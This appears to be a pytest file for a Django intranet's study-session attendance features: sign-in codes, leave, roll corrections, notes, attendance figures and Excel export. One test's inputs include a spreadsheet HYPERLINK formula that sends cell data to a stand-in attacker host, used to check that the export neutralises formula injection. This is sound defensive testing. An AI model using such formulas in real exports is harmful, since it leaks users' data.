"""Study sessions: sign-in with a code, leave, the host's roll, notes, and the attendance figures."""

import datetime as dt
import threading
from io import BytesIO

import pytest
from django.db import connection
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from intranet.study import attendance
from intranet.study.models import (
    Attendance,
    AttendanceChange,
    LeaveRequest,
    StudyNote,
    StudySession,
)
from tests.builders import WORKING_MORNING, session_around_now

# Sessions under way are built around the clock's time: it stands on a working morning.
pytestmark = pytest.mark.usefixtures("working_morning")


def url(name, *args):
    return reverse(f"intranet:{name}", args=args)


@pytest.fixture
def running(users):
    return session_around_now(users["head"], started_minutes_ago=5)


def test_signing_in_with_the_code_marks_present(clients, users, running):
    response = clients["staff"].post(
        url("study_signin"), {"code": running.signin_code}, follow=True
    )
    assert "签到成功" in response.content.decode()
    row = Attendance.objects.get(session=running, user=users["staff"])
    assert row.status == "present" and row.signed_in_at


def test_signing_in_after_ten_minutes_counts_as_late(users):
    session = session_around_now(users["head"], started_minutes_ago=5)
    row = attendance.sign_in(
        users["staff"], session.signin_code, now=session.starts_at + dt.timedelta(minutes=11)
    )
    assert row.status == "late"


def test_signing_in_twice_gets_a_clear_message(clients, users, running):
    clients["staff"].post(url("study_signin"), {"code": running.signin_code})
    response = clients["staff"].post(url("study_signin"), {"code": running.signin_code})
    assert "无需重复签到" in response.content.decode()
    assert Attendance.objects.filter(session=running, user=users["staff"]).count() == 1


def test_a_wrong_code_changes_nothing(clients, running):
    wrong = "000000" if running.signin_code != "000000" else "111111"
    response = clients["staff"].post(url("study_signin"), {"code": wrong})
    assert "签到码无效" in response.content.decode()
    assert not Attendance.objects.exists()


def test_a_code_that_is_not_six_digits_is_refused(clients, running):
    response = clients["staff"].post(url("study_signin"), {"code": "12ab"})
    assert "6位数字" in response.content.decode()
    assert not Attendance.objects.exists()


def test_the_code_only_works_during_the_session_window(users, future_session):
    with pytest.raises(attendance.SignInError, match="不在签到时间"):
        attendance.sign_in(users["staff"], future_session.signin_code)
    opens = future_session.starts_at - dt.timedelta(minutes=15)
    assert (
        attendance.sign_in(users["staff"], future_session.signin_code, now=opens).status
        == "present"
    )
    with pytest.raises(attendance.SignInError, match="不在签到时间"):
        attendance.sign_in(
            users["other_staff"],
            future_session.signin_code,
            now=future_session.ends_at + dt.timedelta(seconds=1),
        )


def test_the_host_is_not_on_the_roll(users, running):
    with pytest.raises(attendance.SignInError, match="不在本次学习"):
        attendance.sign_in(users["head"], running.signin_code)


def test_codes_differ_between_sessions(users):
    codes = {session_around_now(users["head"], topic=f"第{i}次").signin_code for i in range(20)}
    assert len(codes) == 20
    assert all(len(c) == 6 and c.isdigit() for c in codes)


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_concurrent_sign_ins_of_one_person_store_one_row(users):
    session = session_around_now(users["head"], started_minutes_ago=5)
    results = []

    def worker():
        try:
            results.append(attendance.sign_in(users["staff"], session.signin_code).status)
        except attendance.SignInError as e:
            results.append(str(e))
        finally:
            connection.close()

    threads = [threading.Thread(target=worker) for _i in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert Attendance.objects.filter(session=session, user=users["staff"]).count() == 1
    assert results.count("present") == 1


def test_leave_is_requested_before_the_session_and_approved_by_the_host(
    clients, users, future_session
):
    clients["staff"].post(
        url("study_leave", future_session.pk), {"kind": "trip", "reason": "县里开会"}
    )
    leave = LeaveRequest.objects.get()
    assert leave.status == "pending"
    assert (
        clients["inspector"]
        .post(url("study_leave_decide", future_session.pk, leave.pk), {"decision": "approve"})
        .status_code
        == 404
    )
    clients["head"].post(
        url("study_leave_decide", future_session.pk, leave.pk), {"decision": "approve"}
    )
    leave.refresh_from_db()
    assert leave.status == "approved"
    assert Attendance.objects.get(session=future_session, user=users["staff"]).status == "trip"


def test_leave_after_the_start_is_refused(clients, running):
    response = clients["staff"].post(
        url("study_leave", running.pk), {"kind": "personal", "reason": "有事"}, follow=True
    )
    assert "学习已经开始" in response.content.decode()
    assert not LeaveRequest.objects.exists()


def test_a_second_leave_request_is_refused(clients, future_session):
    clients["staff"].post(
        url("study_leave", future_session.pk), {"kind": "personal", "reason": "有事"}
    )
    response = clients["staff"].post(
        url("study_leave", future_session.pk), {"kind": "trip", "reason": "又有事"}, follow=True
    )
    assert "不能重复提交" in response.content.decode()
    assert LeaveRequest.objects.count() == 1


def test_the_host_corrects_the_roll_and_the_change_is_audited(clients, users, running):
    response = clients["head"].post(
        url("study_roll_correct", running.pk),
        {"user": users["staff"].pk, "status": "trip", "reason": "临时被派往县局"},
    )
    assert response.status_code == 302
    change = AttendanceChange.objects.get()
    assert (change.changed_by, change.new_status, change.reason) == (
        users["head"],
        "trip",
        "临时被派往县局",
    )
    html = clients["head"].get(url("study_roll", running.pk)).content.decode()
    assert "临时被派往县局" in html and running.signin_code in html


def test_a_forged_person_id_in_a_correction_is_not_found(clients, users, running):
    response = clients["head"].post(
        url("study_roll_correct", running.pk),
        {"user": users["editor"].pk, "status": "present", "reason": "x"},
    )
    assert response.status_code == 404
    assert not Attendance.objects.exists()


def test_a_correction_without_a_reason_changes_nothing(clients, users, running):
    response = clients["head"].post(
        url("study_roll_correct", running.pk),
        {"user": users["staff"].pk, "status": "present", "reason": ""},
        follow=True,
    )
    assert "更正失败" in response.content.decode()
    assert not Attendance.objects.exists()


def test_after_the_session_people_who_did_not_come_are_absent(users):
    session = _past_session(users, 5, "政治学习")
    Attendance.objects.create(session=session, user=users["staff"], status="present")
    attendance.close_roll(session)
    statuses = dict(
        Attendance.objects.filter(session=session).values_list("user__username", "status")
    )
    assert statuses == {"staff1": "present", "staff2": "absent", "inspector": "absent"}


def test_notes_are_visible_to_author_host_and_head_only(clients, users, running):
    clients["staff"].post(url("study_note", running.pk), {"body": "学习心得：一次性告知很重要。"})
    assert StudyNote.objects.get().author == users["staff"]
    assert (
        "一次性告知很重要" in clients["head"].get(url("study_notes", running.pk)).content.decode()
    )
    assert clients["other_staff"].get(url("study_notes", running.pk)).status_code == 404
    assert clients["inspector"].get(url("study_notes", running.pk)).status_code == 404


LAST_YEAR = WORKING_MORNING.year - 1


def _past_session(users, day_of_march, topic):
    """A session of last year, so it is over whatever the date the suite runs."""
    from intranet.study.models import StudyPlan

    day = dt.date(LAST_YEAR, 3, day_of_march)
    return StudySession.objects.create(
        plan=StudyPlan.objects.get_or_create(year=day.year, defaults={"title": "计划"})[0],
        date=day,
        start_time=dt.time(9),
        end_time=dt.time(10),
        topic=topic,
        kind="business",
        host=users["head"],
        place="会议室",
    )


def test_attendance_rate_counts_present_and_late_over_expected_with_excused_apart(users):
    s1, s2, s3 = (_past_session(users, d, f"第{d}次") for d in (1, 2, 3))
    Attendance.objects.create(session=s1, user=users["staff"], status="present")
    Attendance.objects.create(session=s2, user=users["staff"], status="late")
    Attendance.objects.create(session=s3, user=users["staff"], status="leave")
    Attendance.objects.create(session=s1, user=users["other_staff"], status="present")
    people = {
        p["user"].username: p
        for p in attendance.person_figures(LAST_YEAR, StudySession.objects.all())
    }
    staff = people["staff1"]
    assert (staff["attended"], staff["excused"], staff["expected"], staff["rate"]) == (
        2,
        1,
        2,
        100.0,
    )
    other = people["staff2"]  # present once, absent twice after the rolls closed
    assert (other["attended"], other["absent"], other["rate"]) == (1, 2, 33.3)


def test_excel_export_opens_with_chinese_headers_and_a_frozen_header(clients, users):
    session = _past_session(users, 1, "业务学习")
    Attendance.objects.create(session=session, user=users["staff"], status="present")
    response = clients["head"].get(url("attendance_export") + f"?year={session.date.year}")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    wb = load_workbook(BytesIO(response.content))
    ws = wb.worksheets[0]
    assert [c.value for c in ws[1]][:3] == ["姓名", "账号", "出席"]
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["A"].width >= 10
    names = [row[0].value for row in ws.iter_rows(min_row=2)]
    assert "王芳" in names
    assert wb.worksheets[1]["B2"].value == "业务学习"


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?d="&A2,"点击")',
        "+1+1",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1",
    ],
)
def test_excel_export_writes_formula_like_text_as_text(clients, users, typed):
    users["staff"].first_name = typed
    users["staff"].save()
    session = _past_session(users, 2, typed)
    Attendance.objects.create(session=session, user=users["staff"], status="present")
    response = clients["head"].get(url("attendance_export") + f"?year={session.date.year}")

    wb = load_workbook(BytesIO(response.content))
    people, sessions = wb.worksheets
    name_cell = next(row[0] for row in people.iter_rows(min_row=2) if row[1].value == "staff1")
    topic_cell = sessions["B2"]
    for cell in (name_cell, topic_cell):
        assert cell.data_type == "s"
        # Django's get_full_name() strips the surrounding whitespace of the name.
        assert cell.value.strip() == typed.strip()
        assert cell.quotePrefix
    formulas = [
        c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]
    assert formulas == []


def test_session_form_refuses_an_end_before_the_start(clients, users, plan):
    response = clients["head"].post(
        url("study_session_new"),
        {
            "plan": plan.pk,
            "date": f"{plan.year}-06-01",
            "start_time": "10:00",
            "end_time": "09:00",
            "topic": "x",
            "kind": "law",
            "host": users["staff"].pk,
            "place": "会议室",
        },
    )
    assert "结束时间必须晚于开始时间" in response.content.decode()
    assert not StudySession.objects.exists()


def test_session_form_refuses_a_wrong_type_material_file(clients, users, plan):
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = clients["head"].post(
        url("study_session_new"),
        {
            "plan": plan.pk,
            "date": f"{plan.year}-06-01",
            "start_time": "09:00",
            "end_time": "10:00",
            "topic": "x",
            "kind": "law",
            "host": users["staff"].pk,
            "place": "会议室",
            "material_file": SimpleUploadedFile("a.pdf", b"not a pdf"),
        },
    )
    assert "内容与扩展名不符" in response.content.decode()
    assert not StudySession.objects.exists()


def test_the_year_total_sums_everyone(clients, users):
    s1 = _past_session(users, 10, "第一次")
    Attendance.objects.create(session=s1, user=users["staff"], status="present")
    Attendance.objects.create(session=s1, user=users["other_staff"], status="leave")
    html = clients["head"].get(url("attendance_report") + f"?year={LAST_YEAR}").content.decode()
    assert "全年合计" in html
    totals = attendance.year_totals(
        attendance.person_figures(LAST_YEAR, StudySession.objects.all())
    )
    # staff present, other_staff on leave, the inspector absent (roll closed): 1 of 2 expected.
    assert (totals["attended"], totals["excused"], totals["expected"], totals["rate"]) == (
        1,
        1,
        2,
        50.0,
    )


def wrong_code_for(session):
    return "000000" if session.signin_code != "000000" else "111111"


def test_sixth_wrong_sign_in_code_locks_sign_in_even_with_the_right_code(
    clients, users, running, caplog
):
    wrong = wrong_code_for(running)
    with caplog.at_level("WARNING", logger="intranet.security"):
        for _ in range(5):
            assert (
                "签到码无效"
                in clients["staff"].post(url("study_signin"), {"code": wrong}).content.decode()
            )
    assert len([r for r in caplog.records if "wrong study sign-in code" in r.message]) == 5
    response = clients["staff"].post(url("study_signin"), {"code": running.signin_code})
    assert response.status_code == 429
    assert "签到已暂时锁定" in response.content.decode()
    assert not Attendance.objects.exists()


def test_sign_in_lock_follows_the_user_into_a_new_login_session(users, running):
    from django.test import Client

    wrong = wrong_code_for(running)
    first = Client()
    first.force_login(users["staff"])
    for _ in range(5):
        first.post(url("study_signin"), {"code": wrong})
    second = Client()
    second.force_login(users["staff"])
    response = second.post(url("study_signin"), {"code": running.signin_code})
    assert response.status_code == 429
    assert not Attendance.objects.exists()


def test_sign_in_lock_of_one_user_leaves_colleagues_alone(clients, users, running):
    wrong = wrong_code_for(running)
    for _ in range(6):
        clients["staff"].post(url("study_signin"), {"code": wrong})
    response = clients["other_staff"].post(url("study_signin"), {"code": running.signin_code})
    assert response.status_code == 302
    assert Attendance.objects.filter(user=users["other_staff"]).exists()


def test_a_right_code_and_a_duplicate_sign_in_do_not_count_as_wrong_codes(clients, running):
    for _ in range(6):
        clients["staff"].post(url("study_signin"), {"code": running.signin_code})
    response = clients["staff"].post(url("study_signin"), {"code": running.signin_code})
    assert response.status_code == 200
    assert "无需重复签到" in response.content.decode()


def signed_in_early(session, user):
    return Attendance.objects.create(
        session=session, user=user, status="present", signed_in_at=timezone.now()
    )


def test_the_session_page_no_longer_offers_leave_once_signed_in(clients, users, future_session):
    page = url("study_session", future_session.pk)
    leave_link = url("study_leave", future_session.pk)
    assert leave_link in clients["staff"].get(page).content.decode()
    signed_in_early(future_session, users["staff"])
    assert leave_link not in clients["staff"].get(page).content.decode()


def test_leave_after_signing_in_is_refused(clients, users, future_session):
    signed_in_early(future_session, users["staff"])
    response = clients["staff"].post(
        url("study_leave", future_session.pk), {"kind": "personal", "reason": "有事"}, follow=True
    )
    assert "您已签到，不能再请假" in response.content.decode()
    assert not LeaveRequest.objects.exists()


def test_the_host_projects_the_code_with_a_qr_code_of_the_signin_page(clients, running):
    import segno

    response = clients["head"].get(url("study_signin_display", running.pk))
    html = response.content.decode()
    assert f"<strong>{running.signin_code}</strong>" in html
    signin = f"http://testserver{url('study_signin')}?session={running.pk}"
    expected = segno.make(signin, error="m").svg_inline(scale=8, title="扫码打开签到页")
    assert expected in html
    assert (
        url("study_signin_display", running.pk)
        in clients["head"].get(url("study_roll", running.pk)).content.decode()
    )


def test_the_signin_page_opened_from_the_qr_code_names_the_session(clients, running):
    html = clients["staff"].get(f"{url('study_signin')}?session={running.pk}").content.decode()
    assert "本次学习：" in html and running.topic in html
    assert (
        "本次学习："
        not in clients["staff"].get(f"{url('study_signin')}?session=x").content.decode()
    )
